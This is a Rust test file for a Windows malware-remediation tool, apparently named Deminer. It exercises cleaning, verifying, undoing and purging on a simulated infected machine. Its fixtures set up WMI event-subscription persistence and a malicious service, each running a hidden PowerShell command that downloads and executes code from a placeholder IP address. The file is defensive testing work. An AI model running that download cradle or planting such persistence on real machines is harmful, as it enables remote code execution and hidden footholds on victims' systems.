//! Cleaning, verifying and undoing a machine in memory, as a person does it.

use super::*;
use crate::commands::undo::undo;
use crate::commands::verify::verify;
use crate::desk::{Answer, Asker};
use detect::Assessment;
use detect::assessment::Kind;
use evidence::{Property, PropertyName, State as Known, Value, WmiObject};
use machine::memory::{Crash, Memory, State};
use machine::{RegistryData, ServiceConfig};
use remediate::UndoOptions;
use report::Language;
use serde_json::Value as Json;
use std::time::Duration;

const RUN: &str = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run";
const SUBSCRIPTION: &str = r"root\subscription";
const CASE: &str = r"C:\cases\one";
const QUERY: &str = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \
    'Win32_PerfFormattedData_PerfOS_System'";
const COMMAND: &str = "powershell -NoP -W Hidden -C \"IEX (New-Object \
    Net.WebClient).DownloadString('http://192.0.2.1/a')\"";

/// Answers one after the other, and keeps what was asked.
#[derive(Default)]
pub(crate) struct Script {
    answers: Vec<Answer>,
    pub(crate) asked: Vec<String>,
}

impl Script {
    pub(crate) fn new(answers: &[Answer]) -> Self {
        Self { answers: answers.to_vec(), asked: Vec::new() }
    }
}

impl Asker for Script {
    fn ask(&mut self, question: &str, _default: bool) -> Answer {
        self.asked.push(question.to_owned());
        if self.answers.is_empty() { Answer::Nobody } else { self.answers.remove(0) }
    }

    fn wait(&mut self, text: &str) {
        self.asked.push(text.to_owned());
    }
}

fn object(class: &str, fields: &[(&str, &str)]) -> WmiObject {
    let known = evidence::wmi::schema::of(class).map(|schema| schema.properties).unwrap_or_default();
    let own = |name: &str| fields.iter().find(|(field, _)| *field == name);
    let properties = known.iter().map(|name| Property {
        name: PropertyName::known(name),
        value: own(name).map_or(Value::Null, |(_, value)| Value::text(*value)),
        state: Known::Known,
    });
    WmiObject { class: class.to_owned(), properties: properties.collect(), ..WmiObject::default() }
}

/// A machine with a malicious subscription, a Run value that is only strange, and one that is good.
pub(crate) fn infected() -> State {
    let mut state = State { clock: "2026-01-02T03:04:05Z".parse().unwrap(), ..State::default() };
    state.facts.host = evidence::Host::named("PC-1", evidence::NameSource::Manifest);
    state.facts.host.id = evidence::HostId("guid-1".into());
    state.facts.windows = r"C:\Windows".into();
    state.facts.program_data = r"C:\ProgramData".into();
    state.facts.elevated = true;
    state.add_folder(r"C:\cases");
    state.add_folder(r"C:\ProgramData");
    for class in ["__EventFilter", "__EventConsumer", "__FilterToConsumerBinding", "__TimerInstruction"] {
        state.add_class(SUBSCRIPTION, class, None);
    }
    state.add_class(SUBSCRIPTION, "CommandLineEventConsumer", Some("__EventConsumer"));
    state.add_class(SUBSCRIPTION, "NTEventLogEventConsumer", Some("__EventConsumer"));
    state.add_namespace("root");
    let filter =
        [("Name", "Bad"), ("Query", QUERY), ("QueryLanguage", "WQL"), ("EventNamespace", r"root\cimv2")];
    state.add_instance(SUBSCRIPTION, object("__EventFilter", &filter), &["Name"]);
    let consumer = [("Name", "Bad"), ("CommandLineTemplate", COMMAND)];
    state.add_instance(SUBSCRIPTION, object("CommandLineEventConsumer", &consumer), &["Name"]);
    let binding =
        [("Filter", "__EventFilter.Name=\"Bad\""), ("Consumer", "CommandLineEventConsumer.Name=\"Bad\"")];
    state.add_instance(SUBSCRIPTION, object("__FilterToConsumerBinding", &binding), &["Consumer", "Filter"]);
    let mut service = ServiceConfig { failure_actions: Some(vec![1, 2, 3]), ..ServiceConfig::default() };
    service.service.name = "Bad".into();
    service.service.service_type = Some(0x10);
    service.service.start = Some(2);
    service.service.image_path = Some(format!("C:\\Windows\\System32\\cmd.exe /c {COMMAND}"));
    service.service.running = Some(true);
    state.services.insert("bad".into(), service);
    state.add_registry_value(RUN, "Strange", RegistryData::string(r"C:\Users\Public\probe.exe -k"));
    state.add_registry_value(RUN, "Good", RegistryData::string(r"C:\Program Files\Good\good.exe"));
    state.add_file(r"C:\Users\Public\probe.exe", b"MZ probe");
    state.add_file(r"C:\Program Files\Good\good.exe", b"MZ good");
    state
}

fn options(apply: bool) -> Options {
    Options { apply, ..Options::default() }
}

fn on_machine(apply: bool) -> Job {
    let work = Work::Machine(BTreeSet::new(), None, Some(CASE.to_owned()));
    Job { work, options: options(apply), exclude: BTreeSet::new(), format: ReceiptFormat::Text }
}

/// How a run ended, what it printed, and what it asked.
pub(crate) fn run_with(
    answers: &[Answer],
    work: impl FnOnce(&mut Desk) -> Result<ExitStatus, Error>,
) -> (Result<ExitStatus, Error>, String, Vec<String>) {
    let (mut out, mut asker) = (Vec::new(), Script::new(answers));
    let console = Console::plain(Language::English);
    let mut desk = Desk { console, out: &mut out, asker: &mut asker };
    let ended = work(&mut desk);
    (ended, String::from_utf8(out).unwrap(), asker.asked)
}

fn cleaned(memory: &mut Memory, job: Job, answers: &[Answer]) -> (ExitStatus, String, Vec<String>) {
    let (ended, text, asked) = run_with(answers, |desk| clean(memory, Intel::builtin(), job, desk));
    (ended.unwrap(), text, asked)
}

fn refused(memory: &mut Memory, job: Job) -> String {
    let (ended, _, _) = run_with(&[], |desk| clean(memory, Intel::builtin(), job, desk));
    ended.unwrap_err().message().id
}

fn changed(before: &State, memory: &Memory) -> Vec<String> {
    before.clone().without_folder(CASE).diff(&memory.snapshot().without_folder(CASE))
}

#[test]
fn a_dry_run_says_everything_and_changes_nothing() {
    let mut memory = Memory::new(infected());
    let before = memory.snapshot();
    let (status, text, asked) = cleaned(&mut memory, on_machine(false), &[]);
    assert_eq!(status, ExitStatus::Found, "something is to be done");
    insta::assert_snapshot!(text);
    assert!(asked.is_empty(), "{asked:?}");
    assert_eq!(before.diff(&memory.snapshot()), Vec::<String>::new());
}

/// What is found on a machine in this state.
pub(crate) fn assessed(state: State) -> Assessment {
    let console = Console::plain(Language::English);
    crate::commands::collect::assess(&Memory::new(state), Intel::builtin(), console).unwrap()
}

/// The id of the finding of this kind.
fn finding(memory: &Memory, kind: Kind) -> String {
    let assessment = assessed(memory.snapshot());
    assessment.findings.iter().find(|finding| finding.kind == kind).unwrap().id.clone()
}

/// The job that leaves the missing stock entry missing, for undoing does not take back what belongs to Windows; and takes the bad service,
/// which its content alone does not ask for.
fn with_service(memory: &Memory, apply: bool) -> Job {
    let include = BTreeSet::from([finding(memory, Kind::Service)]);
    let exclude = BTreeSet::from([finding(memory, Kind::StockMissing)]);
    Job { work: Work::Machine(include, None, Some(CASE.to_owned())), exclude, ..on_machine(apply) }
}

/// To disable and to stop the service.
const BOTH: &[Answer] = &[Answer::Yes, Answer::Yes];

fn verified(memory: &mut Memory, watch: Option<u64>) -> (ExitStatus, String) {
    let watch = watch.map(Duration::from_secs);
    let (ended, text, _) =
        run_with(&[], |desk| verify(memory, Intel::builtin(), CASE, watch, ReceiptFormat::Text, desk));
    (ended.unwrap(), text)
}

fn undone(memory: &mut Memory, rearm: bool, format: ReceiptFormat) -> (ExitStatus, String) {
    let options = UndoOptions { rearm, ..UndoOptions::default() };
    let (ended, text, _) = run_with(&[], |desk| undo(memory, Intel::builtin(), CASE, &options, format, desk));
    (ended.unwrap(), text)
}

fn in_case_job(work: Work, apply: bool) -> Job {
    Job { work, options: options(apply), exclude: BTreeSet::new(), format: ReceiptFormat::Text }
}

#[test]
fn cleaned_verified_and_undone_the_machine_is_as_it_was() {
    let mut memory = Memory::new(infected());
    let before = memory.snapshot();
    let job = with_service(&memory, true);
    let (status, text, asked) = cleaned(&mut memory, job, BOTH);
    assert_eq!(status, ExitStatus::Nothing, "{text}");
    insta::assert_snapshot!("asked", asked.join("\n"));
    insta::assert_snapshot!("clean", text);
    assert_eq!(changed(&before, &memory).len(), 4, "{:?}", changed(&before, &memory));

    let (status, text) = verified(&mut memory, None);
    assert_eq!(status, ExitStatus::Nothing);
    insta::assert_snapshot!("verify", text);

    let (status, text) = undone(&mut memory, false, ReceiptFormat::Text);
    assert_eq!(status, ExitStatus::Found, "what would start it is kept away");
    insta::assert_snapshot!("undo", text);

    let (status, text) = undone(&mut memory, true, ReceiptFormat::Json);
    assert_eq!(status, ExitStatus::Nothing, "{text}");
    let differs = changed(&before, &memory);
    assert!(matches!(differs.as_slice(), [line] if line.contains("running: Some(true)")), "{differs:?}");
    let receipt: Json = serde_json::from_str(&text).unwrap();
    assert_eq!((&receipt["schema"], &receipt["run"]), (&"deminer.receipt/1".into(), &"undo".into()));
    assert_eq!(receipt["complete"], true);
}

#[test]
fn a_program_reads_what_became_of_it() {
    let mut memory = Memory::new(infected());
    let job = Job { format: ReceiptFormat::Json, ..on_machine(true) };
    let (status, text, _) = cleaned(&mut memory, job, &[]);
    assert_eq!(status, ExitStatus::Nothing);
    insta::assert_snapshot!("clean_json", text);
    let (ended, text, _) =
        run_with(&[], |desk| verify(&mut memory, Intel::builtin(), CASE, None, ReceiptFormat::Json, desk));
    assert_eq!(ended.unwrap(), ExitStatus::Nothing);
    insta::assert_snapshot!("verify_json", text);
}

#[test]
fn what_no_content_speaks_for_is_asked() {
    for (answers, yes, gone) in [
        (BOTH, false, true),
        (&[Answer::No, Answer::No], false, false),
        (&[], false, false),
        (BOTH, true, false),
    ] {
        let mut memory = Memory::new(infected());
        let work = Work::Machine(BTreeSet::from([finding(&memory, Kind::Run)]), None, Some(CASE.to_owned()));
        let mut job = Job { work, ..with_service(&memory, true) };
        job.options.yes = yes;
        let (status, text, asked) = cleaned(&mut memory, job, answers);
        let value = memory.state().registry_value(&machine::Key::new(RUN), "Strange").cloned();
        assert_eq!(value.is_none(), gone, "{answers:?}: {text}");
        assert_eq!(status == ExitStatus::Nothing, gone, "{text}");
        assert_eq!(asked.is_empty(), yes, "--yes asks nothing");
        assert!(asked.iter().all(|question| question.starts_with("remove ")), "{asked:?}");
        assert!(memory.state().registry_value(&machine::Key::new(RUN), "Good").is_some());
    }
}

#[test]
fn a_run_that_was_cut_off_is_carried_on() {
    let mut memory = Memory::new(infected());
    let job = with_service(&memory, true);
    memory.heal();
    let calls = {
        let mut other = Memory::new(infected());
        cleaned(&mut other, job.clone(), BOTH);
        other.calls().iter().position(|call| call.method == "delete_wmi_instance").unwrap()
    };
    memory.crash_at(calls, Crash::After);
    let (_, text, _) = cleaned(&mut memory, job, BOTH);
    assert!(text.contains("stopped: "), "{text}");
    memory.heal();
    let resume = |apply| in_case_job(Work::Resume(CASE.to_owned()), apply);
    let before = memory.snapshot();
    let (status, text, _) = cleaned(&mut memory, resume(false), &[]);
    assert_eq!(status, ExitStatus::Found, "{text}");
    assert_eq!(before.diff(&memory.snapshot()), Vec::<String>::new(), "a dry run");
    let (status, text, _) = cleaned(&mut memory, resume(true), BOTH);
    assert_eq!(status, ExitStatus::Nothing, "{text}");
    assert_eq!(verified(&mut memory, None).0, ExitStatus::Nothing);
}

#[test]
fn what_is_disabled_is_deleted_after_a_verification_and_not_before() {
    let mut memory = Memory::new(infected());
    let job = with_service(&memory, true);
    cleaned(&mut memory, job, BOTH);
    let purge = |apply| in_case_job(Work::Purge(CASE.to_owned()), apply);
    assert_eq!(refused(&mut memory, purge(true)), "stop-not-verified");
    verified(&mut memory, None);
    let (status, text, _) = cleaned(&mut memory, purge(false), &[]);
    assert_eq!(status, ExitStatus::Found);
    insta::assert_snapshot!("purge", text);
    assert!(memory.state().services.contains_key("bad"), "a dry run");
    assert_eq!(cleaned(&mut memory, purge(true), BOTH).0, ExitStatus::Nothing);
    assert!(!memory.state().services.contains_key("bad"));
}

#[test]
fn what_comes_back_while_it_is_watched_is_said_when_it_is_seen() {
    let mut memory = Memory::new(infected());
    let bad = memory.snapshot().namespaces[SUBSCRIPTION].instances.clone();
    let job = with_service(&memory, true);
    cleaned(&mut memory, job, BOTH);
    memory.change_before("append", "journal", move |state| {
        let space = state.namespaces.get_mut(SUBSCRIPTION).unwrap();
        space.instances.extend(bad.into_iter().filter(|(path, _)| path.starts_with("command")));
    });
    let (status, text) = verified(&mut memory, Some(100));
    assert_eq!(status, ExitStatus::Found);
    insta::assert_snapshot!("watch", text);
}

/// Puts the same subscription back under another name.
fn reinfect(state: &mut State) {
    let filter =
        [("Name", "Other"), ("Query", QUERY), ("QueryLanguage", "WQL"), ("EventNamespace", r"root\cimv2")];
    state.add_instance(SUBSCRIPTION, object("__EventFilter", &filter), &["Name"]);
    let consumer = [("Name", "Other"), ("CommandLineTemplate", COMMAND)];
    state.add_instance(SUBSCRIPTION, object("CommandLineEventConsumer", &consumer), &["Name"]);
    let binding =
        [("Filter", "__EventFilter.Name=\"Other\""), ("Consumer", "CommandLineEventConsumer.Name=\"Other\"")];
    state.add_instance(SUBSCRIPTION, object("__FilterToConsumerBinding", &binding), &["Consumer", "Filter"]);
}

#[test]
fn what_comes_under_another_name_while_it_is_watched_is_told_with_its_time() {
    let watched = |memory: &mut Memory, format| {
        let watch = Some(Duration::from_secs(100));
        let (ended, text, _) =
            run_with(&[], |desk| verify(memory, Intel::builtin(), CASE, watch, format, desk));
        (ended.unwrap(), text)
    };
    let mut memory = Memory::new(infected());
    let job = with_service(&memory, true);
    cleaned(&mut memory, job, BOTH);
    let whole = memory.snapshot();
    let mut memory = Memory::new(whole.clone());
    let (status, text) = watched(&mut memory, ReceiptFormat::Json);
    assert_eq!(status, ExitStatus::Nothing);
    assert!(!text.contains("arrived"), "{text}");
    let calls = memory.calls();
    let noted = calls.iter().enumerate().filter(|(_, call)| call.method == "append");
    let noted: Vec<_> = noted.map(|(number, _)| number).collect();
    let middle = noted[noted.len() / 2];

    let mut memory = Memory::new(whole.clone());
    memory.change_before_call(middle, reinfect);
    let (status, text) = watched(&mut memory, ReceiptFormat::Json);
    assert_eq!(status, ExitStatus::Found, "the last reading judges it");
    let told: Json = serde_json::from_str(&text).unwrap();
    let arrived = told["arrived"].as_array().unwrap();
    assert_eq!(arrived.len(), 3, "filter, consumer and binding: {text}");
    assert!(arrived.iter().all(|new| new["time"].as_str() < told["time"].as_str()), "{text}");

    // A program that somebody installs meanwhile is told, and is no reason to worry by itself.
    let mut memory = Memory::new(whole);
    memory.change_before_call(middle, |state| {
        state.add_registry_value(RUN, "New\u{1b}", RegistryData::string(r"C:\Program Files\new.exe"));
    });
    let (status, text) = watched(&mut memory, ReceiptFormat::Text);
    assert_eq!(status, ExitStatus::Nothing, "{text}");
    let line = text.lines().find(|line| line.contains("new since the cleaning")).unwrap();
    assert!(line.contains(r"Run\New") && !line.contains('\u{1b}'), "{line}");
}

#[test]
fn what_is_new_under_another_name_does_not_pass() {
    let mut memory = Memory::new(infected());
    let job = with_service(&memory, true);
    cleaned(&mut memory, job, BOTH);
    assert_eq!(verified(&mut memory, None).0, ExitStatus::Nothing);
    reinfect(&mut memory.state_mut());
    let (status, text) = verified(&mut memory, None);
    assert_eq!(status, ExitStatus::Found);
    insta::assert_snapshot!("new", text);
    let purge = in_case_job(Work::Purge(CASE.to_owned()), true);
    assert_eq!(refused(&mut memory, purge), "stop-not-verified");
    let (ended, text, _) =
        run_with(&[], |desk| verify(&mut memory, Intel::builtin(), CASE, None, ReceiptFormat::Json, desk));
    assert_eq!(ended.unwrap(), ExitStatus::Found);
    let told: Json = serde_json::from_str(&text).unwrap();
    assert_eq!(told["passed"], false);
    assert!(told["again"]["found"][0]["text"].is_string(), "{text}");
}

#[test]
fn a_machine_that_cannot_be_read_again_does_not_pass() {
    let mut memory = Memory::new(infected());
    let job = with_service(&memory, true);
    cleaned(&mut memory, job, BOTH);
    memory.fail_on("wmi_namespaces", "", machine::Fault::AccessDenied);
    let (status, text) = verified(&mut memory, None);
    assert_eq!(status, ExitStatus::Found, "{text}");
    assert!(text.contains("whether something new is there cannot be told"), "{text}");
}

#[test]
fn by_whom_it_is_back_is_said_where_it_was_read() {
    let mut memory = Memory::new(infected());
    let bad = memory.snapshot().namespaces[SUBSCRIPTION].instances.clone();
    let job = with_service(&memory, true);
    cleaned(&mut memory, job, BOTH);
    let creator = Value::Array([1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0].map(Value::Uint).to_vec());
    let mut back: Vec<_> = bad.into_iter().filter(|(path, _)| path.starts_with("command")).collect();
    for (_, instance) in &mut back {
        let own = instance.object.properties.iter_mut().find(|own| own.name.as_str() == "CreatorSID");
        own.unwrap().value = creator.clone();
    }
    memory.state_mut().namespaces.get_mut(SUBSCRIPTION).unwrap().instances.extend(back);
    let (_, text) = verified(&mut memory, None);
    assert!(text.contains("made by S-1-5-18"), "{text}");
}

#[test]
fn a_program_is_told_in_its_own_form_why_a_run_did_not_begin() {
    let told = |text: &str| -> Json { serde_json::from_str(text).unwrap() };
    let mut state = infected();
    state.facts.elevated = false;
    let mut memory = Memory::new(state);
    let job = Job { format: ReceiptFormat::Json, ..on_machine(true) };
    let (ended, text, _) = run_with(&[], |desk| clean(&mut memory, Intel::builtin(), job, desk));
    assert_eq!(ended.unwrap_err().message().id, "stop-not-elevated");
    let receipt = told(&text);
    assert_eq!((&receipt["schema"], &receipt["run"]), (&"deminer.receipt/1".into(), &"apply".into()));
    assert_eq!(receipt["stopped"]["message"]["id"], "stop-not-elevated");
    assert_eq!((&receipt["complete"], &receipt["host"]["name"]), (&false.into(), &"PC-1".into()));
    let options = UndoOptions::default();
    let (ended, text, _) =
        run_with(&[], |desk| undo(&mut memory, Intel::builtin(), CASE, &options, ReceiptFormat::Json, desk));
    assert!(ended.is_err());
    assert_eq!((&told(&text)["run"], &told(&text)["case"]), (&"undo".into(), &CASE.into()));
    let (ended, text, _) =
        run_with(&[], |desk| verify(&mut memory, Intel::builtin(), CASE, None, ReceiptFormat::Json, desk));
    assert!(ended.is_err());
    assert_eq!(told(&text)["schema"], "deminer.verification/1");
    assert_eq!(told(&text)["stopped"]["message"]["id"], "stop-case-damaged");
    let (ended, text, _) =
        run_with(&[], |desk| undo(&mut memory, Intel::builtin(), CASE, &options, ReceiptFormat::Text, desk));
    assert!(ended.is_err() && text.is_empty(), "people are told by the error");
}

#[test]
fn what_must_not_begin_does_not() {
    let plan = |change: &dyn Fn(&mut Plan)| {
        let mut plan = remediate::plan(&assessed(infected()), Intel::builtin(), &Choice::default());
        change(&mut plan);
        Job { work: Work::Plan(Box::new(plan), Some(CASE.to_owned())), ..on_machine(true) }
    };
    let stops = |state: &dyn Fn(&mut State), job: Job| {
        let mut infected = infected();
        state(&mut infected);
        let mut memory = Memory::new(infected);
        let before = memory.snapshot();
        let why = refused(&mut memory, job);
        assert_eq!(before.diff(&memory.snapshot()), Vec::<String>::new(), "{why}");
        why
    };
    let as_is = |_: &mut State| {};
    assert_eq!(stops(&|state| state.facts.elevated = false, plan(&|_| {})), "stop-not-elevated");
    assert_eq!(stops(&|state| state.facts.elevated = false, on_machine(true)), "stop-not-elevated");
    assert_eq!(stops(&|state| state.facts.redirected = true, on_machine(false)), "stop-redirected");
    assert_eq!(stops(&|state| state.facts.domain_controller = true, plan(&|_| {})), "stop-domain-controller");
    let other = plan(&|plan| plan.host.id.0 = "another".into());
    assert_eq!(stops(&as_is, other), "stop-other-host");
    let unpatched = plan(&|plan| plan.patch = detect::assessment::State::Act);
    assert_eq!(stops(&as_is, unpatched.clone()), "stop-unpatched");
    let mut job = plan(&|_| {});
    job.options.trusted = vec![r"C:\Users\Public\probe.exe".to_owned()];
    assert_eq!(stops(&as_is, job), "stop-unprotected");
    let mut job = plan(&|_| {});
    job.work = Work::Machine(BTreeSet::new(), None, Some("cases".to_owned()));
    assert_eq!(stops(&as_is, job), "stop-case-path");
    assert_eq!(stops(&as_is, in_case_job(Work::Resume(CASE.to_owned()), true)), "stop-case-damaged");

    let mut memory = Memory::new(infected());
    let mut contained = unpatched;
    contained.options.contain = Some(vec!["10.0.0.5".parse().unwrap()]);
    let (status, text, _) = cleaned(&mut memory, contained.clone(), &[]);
    assert_eq!(status, ExitStatus::Nothing, "{text}");
    assert!(text.lines().nth(1).unwrap().contains("done: contain Deminer: contain 135,139,445"), "{text}");
    let mut memory = Memory::new(infected());
    memory.fail_on("put_setting", "", machine::Fault::Unsupported);
    let (status, text, _) = cleaned(&mut memory, contained, &[]);
    assert_eq!(status, ExitStatus::Found);
    insta::assert_snapshot!("not_contained", text);
}

#[test]
fn a_case_has_a_place_of_its_own_where_none_is_named() {
    let mut memory = Memory::new(infected());
    let job = Job { work: Work::Machine(BTreeSet::new(), None, None), ..on_machine(true) };
    cleaned(&mut memory, job.clone(), &[]);
    let folder = r"c:\programdata\deminer";
    let case = format!(r"{folder}\case-20260102t0304");
    let is_receipt = |path: &String| path.starts_with(&case) && path.ends_with(r"\receipt.json");
    assert!(memory.state().files.keys().any(is_receipt), "called by the time");
    let last = place::last_case(&memory).unwrap();
    assert!(last.starts_with(r"C:\ProgramData\Deminer\case-20260102T0304"), "{last}");
    let mut memory = Memory::new(infected());
    memory.state_mut().add_folder(folder).protected = false;
    assert_eq!(refused(&mut memory, job), "stop-unprotected", "somebody else made it");
}

#[test]
fn one_action_is_undone_and_an_unknown_one_is_an_error() {
    let mut memory = Memory::new(infected());
    let job = with_service(&memory, true);
    cleaned(&mut memory, job, BOTH);
    let only = UndoOptions { only: BTreeSet::from(["nothing".to_owned()]), rearm: true };
    let (ended, _, _) =
        run_with(&[], |desk| undo(&mut memory, Intel::builtin(), CASE, &only, ReceiptFormat::Text, desk));
    assert_eq!(ended.unwrap_err().message().id, "stop-no-action");
}

#[test]
fn a_clean_machine_needs_nothing_and_one_that_was_hardly_read_is_not_clean() {
    let mut state = infected();
    state.services.clear();
    state.registry.clear();
    state.namespaces.get_mut(SUBSCRIPTION).unwrap().instances.clear();
    let mut memory = Memory::new(state.clone());
    let job = Job { exclude: BTreeSet::from([finding(&memory, Kind::StockMissing)]), ..on_machine(true) };
    let before = memory.snapshot();
    let (status, text, _) = cleaned(&mut memory, job, &[]);
    assert_eq!(status, ExitStatus::Nothing, "{text}");
    assert!(text.ends_with("\nnothing to do\n"), "{text}");
    assert_eq!(before.diff(&memory.snapshot()), Vec::<String>::new(), "no case for nothing");
    state.namespaces.clear();
    let (status, _, _) = cleaned(&mut Memory::new(state), on_machine(false), &[]);
    assert_eq!(status, ExitStatus::Inconclusive);
}

#[test]
fn a_plan_is_shown_where_its_machine_is_not() {
    let console = Console::plain(Language::Japanese);
    let plan = remediate::plan(&assessed(infected()), Intel::builtin(), &Choice::default());
    let mut job = on_machine(false);
    job.exclude = plan.actions.first().map(|action| action.id.clone()).into_iter().collect();
    let (mut out, mut asker) = (Vec::new(), Script::default());
    let mut desk = Desk { console, out: &mut out, asker: &mut asker };
    assert_eq!(preview(&plan, &job, &mut desk).unwrap(), ExitStatus::Found);
    insta::assert_snapshot!("preview_ja", String::from_utf8(out).unwrap());
}
